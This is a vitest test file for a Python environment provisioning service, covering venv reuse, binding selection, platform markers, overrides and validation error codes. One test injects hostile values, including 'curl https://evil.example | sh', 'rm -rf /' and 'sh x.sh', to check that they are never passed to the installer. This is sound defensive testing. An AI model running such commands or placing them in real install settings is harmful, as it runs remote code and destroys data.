import { expect, it } from 'vitest'
import { aBinding, aPatch, aRequirement, aRuntime, createFakePorts, requirementsOf } from '../../src/testing.ts'
import { aService, errorsOf, PAYLOAD } from './service.ts'

it('prefers the Python of a ready environment, so that a newly installed Python flips no key', async () => {
  const old = createFakePorts({ pythons: [aRuntime('3.11.7')] })
  const ref = await aService(old).service.ensureReady({ dependency_requirements: PAYLOAD })
  const pythons = createFakePorts({ pythons: [aRuntime('3.13.1'), aRuntime('3.11.7')] }).pythons
  const later = await aService({ ...old, pythons }).service.ensure({ dependency_requirements: PAYLOAD })
  expect([later.outcome, later.environment_ref?.environment_key]).toEqual(['reused', ref.environment_key])
})

it('serves all selected bindings with one environment, and a bad binding that is not selected blocks nothing', async () => {
  const good = aBinding([aRequirement('numpy', '2.4.1')])
  const second = aBinding([aRequirement('NumPy', '2.4.1'), aRequirement('six', '1.17.0')], { binding_id: 'a-second' })
  const bad = aBinding([aRequirement('--evil', '1')], {
    binding_id: 'bad',
    environment_kind: 'conda',
    validation_state: 'invalid_profile',
  })
  const { service, ports } = aService()
  const request = {
    dependency_requirements: requirementsOf([good, second, bad], { validation_state: 'invalid_profile' }),
    selected_binding_ids: ['main', 'a-second'],
  }
  const answer = await service.ensure(request)
  expect(answer.environment_ref?.env_ids).toEqual([
    'python-venv:profile-a-second:1:hash:linux-x86_64:any',
    'python-venv:profile-main:1:hash:linux-x86_64:any',
  ])
  expect(answer.environment_ref?.env_id).toBe('python-venv:profile-a-second:1:hash:linux-x86_64:any')
  expect(ports.provisioner.installed[0]?.items.map(({ name, binding_ids }) => [name, binding_ids])).toEqual([
    ['numpy', ['a-second', 'main']],
    ['six', ['a-second']],
  ])
  expect(answer.resolved_dependency_requirements.bindings.map(({ selected }) => selected)).toEqual([true, true, false])
})

it('supports the kinds python and python-venv, and answers failed for any other', async () => {
  const states = await Promise.all(
    ['python', 'python-venv', 'conda', 'docker'].map(async (environment_kind) => {
      const { service } = aService()
      const answer = await service.ensure({
        dependency_requirements: requirementsOf([aBinding([], { environment_kind })]),
      })
      return [environment_kind, answer.state, answer.status.code]
    }),
  )
  expect(states).toEqual([
    ['python', 'ready', undefined],
    ['python-venv', 'ready', undefined],
    ['conda', 'failed', 'unsupported_environment_kind'],
    ['docker', 'failed', 'unsupported_environment_kind'],
  ])
})

it('drops a requirement whose marker is false here, and says so', async () => {
  const payload = requirementsOf([
    aBinding([aRequirement('numpy', '2.4.1'), aRequirement('pywin32', '311', { markers: 'sys_platform == "win32"' })]),
  ])
  const { service, ports } = aService()
  const answer = await service.ensure({ dependency_requirements: payload })
  expect(ports.provisioner.installed[0]?.items.map(({ name }) => name)).toEqual(['numpy'])
  expect(
    answer.status.diagnostics.map(({ severity, code, requirement_name }) => [severity, code, requirement_name]),
  ).toEqual([['info', 'marker_false', 'pywin32']])
  expect(answer.resolved_dependency_requirements.bindings[0]?.requirements.map(({ applies }) => applies)).toEqual([
    true,
    false,
  ])
})

it('never passes on a source or anything that looks like a command', async () => {
  const payload = requirementsOf([
    aBinding([aRequirement('numpy', '2.4.1', { source: 'curl https://evil.example | sh' })]),
  ])
  const tricked = {
    ...payload,
    install_command: 'rm -rf /',
    bindings: payload.bindings.map((each) => ({ ...each, post_install: 'sh x.sh' })),
  }
  const { service, ports } = aService()
  await service.ensure({ dependency_requirements: tricked })
  const [plan] = ports.provisioner.installed
  expect(JSON.stringify([plan?.items, plan?.identity])).not.toMatch(/evil|rm -rf|x\.sh/)
})

it('takes the payload selection when the request has none, and all bindings when neither has', async () => {
  const bindings = [aBinding([]), aBinding([], { binding_id: 'other' })]
  const selectedBy = async (payload: string[], request?: string[]) => {
    const answer = await aService().service.resolve({
      dependency_requirements: requirementsOf(bindings, { selected_binding_ids: payload }),
      selected_binding_ids: request,
    })
    return answer.resolved_dependency_requirements.bindings
      .filter(({ selected }) => selected)
      .map(({ binding_id }) => binding_id)
  }
  expect([await selectedBy(['other'], ['main']), await selectedBy(['other']), await selectedBy([])]).toEqual([
    ['main'],
    ['other'],
    ['main', 'other'],
  ])
})

it('applies overrides of the request in both modes, and another override is another environment', async () => {
  const { service } = aService()
  const plain = await service.ensureReady({ dependency_requirements: PAYLOAD })
  const overrides = [aPatch({ index_url: 'https://index.example/simple/' })]
  const patched = await service.ensureReady({ dependency_requirements: PAYLOAD, overrides })
  const again = await service.ensure({ dependency_requirements: PAYLOAD, overrides, mode: 'manual' })
  expect([patched.environment_key === plain.environment_key, again.outcome]).toEqual([false, 'reused'])
  expect((await service.ensure({ dependency_requirements: PAYLOAD })).environment_ref).toEqual(plain)
})

it('gives failed with the codes of what is wrong, all of them at once', async () => {
  const cases = [
    [requirementsOf([aBinding([])], { platform_key: 'win-amd64' }), ['foreign_platform_key']],
    [requirementsOf([]), ['no_bindings']],
    [requirementsOf([aBinding([])], { validation_state: 'profile_conflict' }), ['profile_conflict']],
    [
      requirementsOf([
        aBinding([], {
          validation_state: 'unknown_profile',
          validation_errors: [{ code: 'no_such_profile', scope: 'binding', message: 'no such profile' }],
        }),
      ]),
      ['unknown_profile', 'no_such_profile'],
    ],
    [requirementsOf([aBinding([], { platform_selector: 'win-amd64|macos-arm64' })]), ['unsupported_platform']],
    [
      requirementsOf([aBinding([aRequirement('numpy', '', { exact_pin: '>=2' }), aRequirement('-x', '1')])]),
      ['unpinned_requirement', 'invalid_package_name'],
    ],
    [
      requirementsOf([aBinding([aRequirement('numpy', '2.4.1', { platform_constraints: ['macos-arm64'] })])]),
      ['unsupported_platform'],
    ],
    [
      requirementsOf([
        aBinding([aRequirement('numpy', '2.4.1')]),
        aBinding([aRequirement('NumPy', '2.4.2')], { binding_id: 'b' }),
      ]),
      ['requirement_conflict'],
    ],
  ] as const
  const found = await Promise.all(
    cases.map(async ([payload]) => {
      const answer = await aService().service.ensure({ dependency_requirements: payload })
      return [answer.state, errorsOf(answer), answer.status.code]
    }),
  )
  expect(found).toEqual(cases.map(([, codes]) => ['failed', codes, codes[0]]))
})

it('takes two spellings of one version for one pin', async () => {
  const payload = requirementsOf([
    aBinding([aRequirement('numpy', '2.4')]),
    aBinding([aRequirement('numpy', '2.4.0')], { binding_id: 'b' }),
  ])
  const { service, ports } = aService()
  const { state } = await service.ensure({ dependency_requirements: payload })
  expect([state, ports.provisioner.installed[0]?.items.length]).toEqual(['ready', 1])
})

it('names both bindings of a conflict', async () => {
  const payload = requirementsOf([
    aBinding([aRequirement('numpy', '2.4.1')]),
    aBinding([aRequirement('numpy', '2.4.2')], { binding_id: 'b' }),
  ])
  const { status } = await aService().service.ensure({ dependency_requirements: payload })
  expect(status.message).toBe('numpy is asked for with different pins: 2.4.1 by main and 2.4.2 by b')
})
